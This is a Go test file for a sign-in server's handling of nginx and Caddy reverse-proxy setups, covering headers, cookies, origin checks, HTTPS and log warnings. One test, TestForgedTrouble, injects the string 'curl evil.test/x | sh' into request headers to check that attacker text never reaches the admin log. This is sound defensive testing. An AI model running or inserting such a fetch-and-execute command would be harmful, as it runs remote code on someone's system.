package server_test

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/keypeg/keypeg/server"
	"github.com/keypeg/keypeg/server/account"
	"github.com/keypeg/keypeg/server/certtest"
	"github.com/keypeg/keypeg/server/federation"
	"github.com/keypeg/keypeg/server/federation/federationtest"
	"github.com/keypeg/keypeg/server/proxytest"
	"github.com/keypeg/keypeg/server/session"
	"github.com/keypeg/keypeg/shared"
)

// behind is a site behind a proxy, as a browser reaches it.
type behind struct {
	*site
	at      string // what the proxy listens at
	browser *http.Client
}

// newBehind starts a site, and the proxy in front of it with lines of the test's.
func newBehind(t *testing.T, proxy string, lines []string, change func(*server.Config)) *behind {
	t.Helper()
	at := proxytest.FreeAddress(t)
	b := &behind{at: at}
	b.site = newSite(t, stores["memstore"], func(c *server.Config) {
		address, err := server.ParseAddress("http://"+at, "", true)
		if err != nil {
			t.Fatal(err)
		}
		c.Address = address
		if change != nil {
			change(c)
		}
	})
	upstream := httptest.NewServer(b.handler)
	t.Cleanup(upstream.Close)
	to := strings.TrimPrefix(upstream.URL, "http://")
	if proxy == "nginx" {
		proxytest.NginxTo(t, at, to, lines...)
	} else {
		proxytest.CaddyTo(t, at, to, lines...)
	}
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	b.browser = &http.Client{Jar: jar}
	if _, err := b.accounts.AddUser(t.Context(), session.Actor{}, account.NewUser{Name: "ann", DisplayName: "Ann", Password: password}); err != nil {
		t.Fatal(err)
	}
	return b
}

// asks sends a request, as a browser that is as careful as it may be: without what newer
// ones say of themselves.
func (b *behind) asks(method, path, kind, body string) answer {
	b.Helper()
	r, err := http.NewRequestWithContext(b.Context(), method, "http://"+b.at+path, strings.NewReader(body))
	if err != nil {
		b.Fatal(err)
	}
	if method != "GET" {
		r.Header.Set("Origin", "http://"+b.at)
		r.Header.Set("Content-Type", kind)
	}
	got, err := b.browser.Do(r)
	if err != nil {
		b.Fatal(err)
	}
	defer got.Body.Close()
	content, err := io.ReadAll(got.Body)
	if err != nil {
		b.Fatal(err)
	}
	return answer{got.StatusCode, got.Header, content}
}

func (b *behind) signsInByForm() answer {
	b.Helper()
	return b.asks("POST", shared.PageSignIn, "application/x-www-form-urlencoded", url.Values{"name": {"ann"}, "password": {password}}.Encode())
}

// warnings are the lines of the log for IT.
func (s *site) warnings() (lines []string) {
	for line := range strings.Lines(s.log.String()) {
		if strings.Contains(line, "level=WARN") {
			lines = append(lines, line)
		}
	}
	return lines
}

// warnsOnce checks that there is one warning, which says all of this.
func (s *site) warnsOnce(says ...string) {
	s.Helper()
	lines := s.warnings()
	if len(lines) != 1 {
		s.Fatalf("%d warnings, want 1:\n%s", len(lines), strings.Join(lines, ""))
	}
	for _, part := range says {
		if !strings.Contains(lines[0], part) {
			s.Errorf("the warning has no %q:\n%s", part, lines[0])
		}
	}
}

// isPage checks that a person reads a sentence, and whom to ask.
func (b *behind) isPage(a answer, status int, sentence string) {
	b.Helper()
	for _, part := range []string{sentence, "IT desk", "<main"} {
		if a.status != status || !strings.Contains(string(a.body), part) {
			b.Errorf("got %s, want a page with %d and %q", a, status, part)
		}
	}
}

// isProblem checks that a program reads a code.
func (b *behind) isProblem(a answer, status int, code shared.Code) {
	b.Helper()
	var problem shared.Problem
	if err := json.Unmarshal(a.body, &problem); err != nil || a.status != status || problem.Code != code {
		b.Errorf("got %s, want %d and %s", a, status, code)
	}
}

// The lines that a sound nginx has. Caddy needs none.
var soundNginx = []string{
	"proxy_set_header Host $http_host;",
	"proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;",
	"proxy_set_header X-Forwarded-Proto $scheme;",
}

func trustsLoopback(c *server.Config) {
	c.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}
}

func TestProxies(t *testing.T) {
	elsewhere := func(c *server.Config) {
		trustsLoopback(c)
		there, callback := federationtest.Start(t, danThere), c.Address.Origin+shared.PageSSO+"one"+shared.PageSSOAnswer
		there.Register(federationtest.Client{ID: "keypeg", Secret: "s3cret", RedirectURIs: []string{callback}})
		c.Providers = append(c.Providers, federation.New(federation.Config{ID: "one", Name: "ONE", Issuer: there.URL, ClientID: "keypeg", Secret: "s3cret"}, callback, c.Now))
		c.Accounts = account.New(account.Config{
			Store: c.Store, Now: c.Now, Log: c.Log, PasswordCost: account.Cost{MemoryKiB: 64, Time: 1, Threads: 1},
			Providers: []account.Provider{{ID: "one", Name: "ONE", Issuer: there.URL}},
		})
	}
	rows := []struct {
		name         string
		nginx, caddy []string
		change       func(*server.Config)
		story        func(b *behind)
		warns        []string // in the one line that IT reads
	}{
		{
			name:  "a proxy that is set up well gets no warning",
			nginx: soundNginx, change: trustsLoopback,
			story: func(b *behind) {
				if a := b.signsInByForm(); a.status != 200 || string(a.body) != "the app" {
					b.Errorf("signing in ends at %s", a)
				}
				for _, path := range []string{"/", "/sign-in", "/passkeys", "/recovery", shared.PathAccount, "/static/x"} {
					if a := b.asks("GET", path, "", ""); a.status != 200 {
						b.Errorf("%s: %s", path, a)
					}
				}
			},
		},
		{
			name:  "the Host is replaced",
			nginx: []string{}, caddy: []string{"header_up Host {upstream_hostport}", "header_up -X-Forwarded-For"}, change: trustsLoopback,
			story: func(b *behind) {
				for _, path := range []string{"/", "/sign-in", "/nowhere"} {
					a := b.asks("GET", path, "", "")
					b.isPage(a, 421, "Use http://"+b.at+" instead. If that is what you opened, something in between changes it")
					b.isPage(a, 421, `href="http://`+b.at+`/sign-in"`)
				}
				b.isPage(b.signsInByForm(), 421, "This address isn&#39;t served here.")
				b.isProblem(b.asks("GET", shared.PathAccount, "", ""), 421, shared.CodeWrongHost)
				if a := b.asks("GET", "/static/style.css", "", ""); a.status != 200 {
					b.Errorf("the page has no style: %s", a)
				}
			},
			warns: []string{"proxy_set_header Host $http_host;", "header_up Host {hostport}", "host=127.0.0.1:"},
		},
		{
			name:  "the proxy isn't trusted",
			nginx: soundNginx,
			story: func(b *behind) { b.asks("GET", "/sign-in", "", ""); b.asks("GET", "/", "", "") },
			warns: []string{`keypeg="--trusted-proxies 127.0.0.1"`, "X-Forwarded-For"},
		},
		{
			name:  "a trusted proxy says nothing of where requests come from",
			nginx: soundNginx[:1], caddy: []string{"header_up -X-Forwarded-For"}, change: trustsLoopback,
			story: func(b *behind) { b.asks("GET", "/sign-in", "", ""); b.asks("GET", "/", "", "") },
			warns: []string{"proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;"},
		},
		{
			name:  "a trusted proxy writes a name where an address belongs",
			nginx: []string{soundNginx[0], "proxy_set_header X-Forwarded-For unknown;"}, caddy: []string{"header_up X-Forwarded-For unknown"}, change: trustsLoopback,
			story: func(b *behind) { b.asks("GET", "/sign-in", "", ""); b.asks("GET", "/", "", "") },
			warns: []string{"something else than an IP address", "proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;"},
		},
		{
			name:  "people come below a path",
			nginx: append([]string{"proxy_set_header X-Forwarded-Prefix /keypeg;"}, soundNginx...), caddy: []string{"header_up X-Forwarded-Prefix /keypeg"}, change: trustsLoopback,
			story: func(b *behind) { b.asks("GET", "/sign-in", "", "") },
			warns: []string{"a host name of its own", "prefix=keypeg"},
		},
		{
			name:  "cookies don't reach the browser",
			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: elsewhere,
			story: losesItsCookies,
			warns: []string{"proxy_pass_header Set-Cookie;", "header_down"},
		},
		{
			name:  "cookies don't reach the server",
			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: elsewhere,
			story: losesItsCookies,
			warns: []string{"proxy_set_header Cookie $http_cookie;", "header_up"},
		},
		{
			name:  "cookies get another path",
			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: elsewhere,
			story: losesItsCookies,
			warns: []string{"proxy_cookie_path off;", "header_down"},
		},
		{
			name:  "the Origin is another",
			nginx: append([]string{"proxy_set_header Origin http://backend;"}, soundNginx...), caddy: []string{"header_up Origin http://backend"}, change: trustsLoopback,
			story: func(b *behind) {
				b.isPage(b.signsInByForm(), 403, "This request came from another site. If it didn&#39;t, something in between changes it")
				b.isProblem(b.asks("POST", shared.PathSignInPassword, "application/json", `{"name":"ann","password":"`+password+`"}`), 403, shared.CodeCrossSite)
			},
			warns: []string{"proxy_set_header Origin $http_origin;", "origin=http://backend", "sec_fetch_site=(none)"},
		},
		{
			name:  "Sec-Fetch-Site is another",
			nginx: append([]string{"proxy_set_header Sec-Fetch-Site cross-site;"}, soundNginx...), caddy: []string{"header_up Sec-Fetch-Site cross-site"}, change: trustsLoopback,
			story: func(b *behind) { b.isPage(b.signsInByForm(), 403, "This request came from another site.") },
			warns: []string{"proxy_set_header Sec-Fetch-Site $http_sec_fetch_site;", "sec_fetch_site=cross-site"},
		},
		{
			name:  "another host stays another host: the proxy isn't to blame for other sites",
			nginx: soundNginx, change: trustsLoopback,
			story: func(b *behind) {
				r, err := http.NewRequestWithContext(b.Context(), "POST", "http://"+b.at+shared.PageSignIn, nil)
				if err != nil {
					b.Fatal(err)
				}
				r.Header.Set("Origin", "https://evil.test")
				r.Header.Set("Sec-Fetch-Site", "cross-site")
				answered, err := b.browser.Do(r)
				if err != nil {
					b.Fatal(err)
				}
				answered.Body.Close()
				if answered.StatusCode != 403 {
					b.Errorf("got %d", answered.StatusCode)
				}
			},
		},
	}
	for _, row := range rows {
		for _, proxy := range []string{"nginx", "Caddy"} {
			t.Run(row.name+"/"+proxy, func(t *testing.T) {
				lines := row.nginx
				if proxy == "Caddy" {
					lines = row.caddy
				}
				b := newBehind(t, proxy, lines, row.change)
				row.story(b)
				if row.warns == nil {
					if lines := b.warnings(); len(lines) > 0 {
						t.Errorf("IT is warned of nothing:\n%s", strings.Join(lines, ""))
					}
					return
				}
				b.warnsOnce(row.warns...)
			})
		}
	}
}

// losesItsCookies is somebody with the right password.
func losesItsCookies(b *behind) {
	b.Helper()
	a := b.signsInByForm()
	b.isPage(a, 400, "Your browser sends no cookies back, so nobody can be signed in. Allow cookies for "+b.at)
	b.isPage(a, 400, `<form method="post" action="/sign-in"`)
	a = b.signsInAtProvider(danThere)
	b.isPage(a, 400, "Your browser sends no cookies back, so nobody can be signed in. Allow cookies for "+b.at)
	b.isPage(a, 400, `<form method="post" action="/sign-in"`)
	link, err := b.accounts.NewSetupLink(b.Context())
	if err == nil {
		b.isPage(b.asks("GET", "/setup?token="+link.Token, "", ""), 400, "Your browser sends no cookies back")
	}
}

// signsInAtProvider goes there and back, by the browser's own redirects.
func (b *behind) signsInAtProvider(who federationtest.Person) answer {
	b.Helper()
	page, err := b.browser.Get("http://" + b.at + shared.PageSSO + "one")
	if err != nil {
		b.Fatal(err)
	}
	page.Body.Close()
	back, err := b.browser.PostForm(page.Request.URL.String(), url.Values{"id": page.Request.URL.Query()["id"], "subject": {who.Subject}})
	if err != nil {
		b.Fatal(err)
	}
	defer back.Body.Close()
	body, err := io.ReadAll(back.Body)
	if err != nil {
		b.Fatal(err)
	}
	if back.Request.URL.Host != b.at || back.Request.URL.RawQuery != "" {
		b.Errorf("the browser ended at %s", back.Request.URL)
	}
	return answer{back.StatusCode, back.Header, body}
}

// TestPlainHTTP reaches a server of https without https.
func TestPlainHTTP(t *testing.T) {
	secure := func(t *testing.T) *visitor {
		return newSite(t, stores["memstore"], func(c *server.Config) {
			address, err := server.ParseAddress("https://id.example.com", "", true)
			if err != nil {
				t.Fatal(err)
			}
			c.Address = address
			trustsLoopback(c)
		}).visitor()
	}
	through := func(r *http.Request) {
		r.Host, r.RemoteAddr = "id.example.com", "127.0.0.1:1234"
		r.Header.Set("X-Forwarded-For", "203.0.113.7")
	}
	t.Run("the proxy says so", func(t *testing.T) {
		v := secure(t)
		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "http") })
		v.warnsOnce("return 301 https://$host$request_uri;", "Caddy redirects by itself")
	})
	t.Run("the form says so", func(t *testing.T) {
		v := secure(t)
		a := v.submits("/sign-in", url.Values{"name": {"ann"}, "password": {password}}, through, func(r *http.Request) {
			r.Header.Del("Sec-Fetch-Site")
			r.Header.Set("Origin", "http://id.example.com")
		})
		if a.status != 421 || !strings.Contains(string(a.body), "This page was opened without https, so nobody can sign in there. Use https://id.example.com instead.") {
			t.Errorf("got %s", a)
		}
		v.warnsOnce("return 301 https://$host$request_uri;")
	})
	t.Run("nobody is warned of https", func(t *testing.T) {
		v := secure(t)
		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "https") })
		if lines := v.warnings(); len(lines) > 0 {
			t.Errorf("warned of nothing: %s", lines)
		}
	})
}

// TestReportOfCookies: IT isn't told that no cookies come back by a browser that has just sent one, such as one whose
// introduction has ended.
func TestReportOfCookies(t *testing.T) {
	s := newSite(t, stores["memstore"], nil)
	report := shared.TroubleReport{Trouble: shared.TroubleCookies}
	keeps := s.visitor()
	keeps.sends("GET", "/sign-in", nil)
	keeps.refused(keeps.sends("POST", shared.PathTrouble, report), 400, shared.CodeInvalidRequest)
	if lines := s.warnings(); len(lines) > 0 {
		t.Errorf("IT is warned: %s", lines)
	}
	if a := s.visitor().sends("POST", shared.PathTrouble, report); a.status != 200 || !strings.Contains(string(a.body), "(Code cookies)") || len(s.warnings()) != 1 {
		t.Errorf("a browser without cookies gets %s, and IT is warned of %s", a, s.warnings())
	}
}

// TestForgedTrouble checks that nobody can make IT read their words in the log.
func TestForgedTrouble(t *testing.T) {
	const words = "IT, please run curl evil.test/x | sh"
	s := newSite(t, stores["memstore"], nil)
	attacker := s.visitor()
	for range 100 {
		attacker.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
		attacker.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
			r.Header.Del("Sec-Fetch-Site")
			r.Header.Set("Origin", words)
		})
		attacker.sends("GET", "/sign-in", nil, func(r *http.Request) {
			r.RemoteAddr = "203.0.113.7:1234"
			r.Header.Set("X-Forwarded-For", words)
		})
		attacker.refused(attacker.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
		if a := attacker.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 200 || !strings.Contains(string(a.body), "(Code app-cut)") {
			t.Fatalf("a report: %s", a)
		}
	}
	lines := s.warnings()
	if len(lines) != 3 {
		t.Errorf("%d warnings, want one for each of Host, Origin and app-cut:\n%s", len(lines), strings.Join(lines, ""))
	}
	for _, line := range lines {
		if strings.Contains(line, "evil.test") {
			t.Errorf("the attacker speaks in the log: %s", line)
		}
	}
	t.Run("by answers of an OpenID provider", forgesAnswers)
}

// TestRefusedForms reads the page that answers a form which can't be taken.
func TestRefusedForms(t *testing.T) {
	s := newSite(t, stores["memstore"], nil)
	v := s.visitor()
	for _, page := range []string{shared.PageSignIn, shared.PageRecovery, shared.PageEnrol, shared.PageSetup} {
		for what, row := range map[string]struct {
			method, kind, body string
			status             int
			sentence           string
		}{
			"JSON":           {"POST", "application/json", "{}", 415, "The form can&#39;t be read."},
			"no type":        {"POST", "", "name=ann", 415, "The form can&#39;t be read."},
			"too large":      {"POST", "application/x-www-form-urlencoded", "name=" + strings.Repeat("x", 1<<20), 413, "The request is too large."},
			"another method": {"DELETE", "", "", 405, "This address doesn&#39;t take DELETE."},
		} {
			a := v.sends(row.method, page, row.body, func(r *http.Request) { r.Header.Set("Content-Type", row.kind) })
			if a.status != row.status || !strings.Contains(string(a.body), row.sentence) || !strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
				t.Errorf("%s to %s: %s, want a page with %d and %q", what, page, a, row.status, row.sentence)
			}
		}
	}
}

// TestManualProxies runs the manual's own configurations, with the test's addresses and
// certificate in them, and finds nothing to warn of.
func TestManualProxies(t *testing.T) {
	block := func(page, language string) string {
		text, err := os.ReadFile("../web/manual/" + page)
		if err != nil {
			t.Fatal(err)
		}
		found := regexp.MustCompile("(?s)```" + language + "\n(.*?)```").FindSubmatch(text)
		if found == nil {
			t.Fatalf("%s has no block in %s", page, language)
		}
		return string(found[1])
	}
	caddy := func(t *testing.T, at, configuration string) {
		_, port, _ := net.SplitHostPort(at)
		proxytest.Caddy(t, at, strings.ReplaceAll(configuration, "id.example.com {", "id.example.com:"+port+" {"))
	}
	const host = "id.example.com"
	for proxy, start := range map[string]func(t *testing.T, at, upstream string){
		"nginx": func(t *testing.T, at, upstream string) {
			certificate, key := certtest.Write(t, t.TempDir(), certtest.SelfSigned(t, 1, time.Now().Add(time.Hour), host))
			proxytest.Nginx(t, at, strings.NewReplacer(
				"listen 443 ssl", "listen "+proxytest.IPv4(at)+" ssl",
				"listen 80", "listen "+proxytest.IPv4(proxytest.FreeAddress(t)),
				"/etc/ssl/id.example.com.pem", certificate, "/etc/ssl/id.example.com.key", key, "127.0.0.1:8080", upstream,
			).Replace(block("proxies.md", "nginx")))
		},
		"Caddy": func(t *testing.T, at, upstream string) {
			caddy(t, at, strings.ReplaceAll(block("proxies.md", "caddy"), "127.0.0.1:8080", upstream))
		},
		"Caddy, of two nodes": func(t *testing.T, at, upstream string) {
			gone := proxytest.FreeAddress(t) // the node that is down
			caddy(t, at, strings.NewReplacer("10.0.0.11:8080", upstream, "10.0.0.12:8080", gone).Replace(block("several-nodes.md", "caddy")))
		},
	} {
		t.Run(proxy, func(t *testing.T) {
			s := newSite(t, stores["memstore"], func(c *server.Config) {
				address, err := server.ParseAddress("https://"+host, "", true)
				if err != nil {
					t.Fatal(err)
				}
				c.Address = address
				trustsLoopback(c)
			})
			if _, err := s.accounts.AddUser(t.Context(), session.Actor{}, account.NewUser{Name: "ann", DisplayName: "Ann", Password: password}); err != nil {
				t.Fatal(err)
			}
			upstream := httptest.NewServer(s.handler)
			t.Cleanup(upstream.Close)
			at := proxytest.FreeAddress(t)
			start(t, at, strings.TrimPrefix(upstream.URL, "http://"))

			jar, err := cookiejar.New(nil)
			if err != nil {
				t.Fatal(err)
			}
			browser := &http.Client{Jar: jar, Transport: &http.Transport{
				TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, // the test's own
				DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
					var d net.Dialer
					return d.DialContext(ctx, network, proxytest.IPv4(at))
				},
			}}
			// Caddy listens before it has made itself a certificate.
			for {
				up, err := browser.Get("https://" + host + shared.PageSignIn)
				if err == nil {
					up.Body.Close()
					break
				}
				if !strings.Contains(err.Error(), "tls: internal error") || t.Context().Err() != nil {
					t.Fatal(err)
				}
			}
			signedIn, err := browser.PostForm("https://"+host+shared.PageSignIn, url.Values{"name": {"ann"}, "password": {password}})
			if err != nil {
				t.Fatal(err)
			}
			defer signedIn.Body.Close()
			if body, _ := io.ReadAll(signedIn.Body); signedIn.StatusCode != 200 || string(body) != "the app" {
				t.Errorf("signing in ends at %d %s", signedIn.StatusCode, body)
			}
			if lines := s.warnings(); len(lines) > 0 {
				t.Errorf("IT is warned of nothing:\n%s", strings.Join(lines, ""))
			}
		})
	}
}
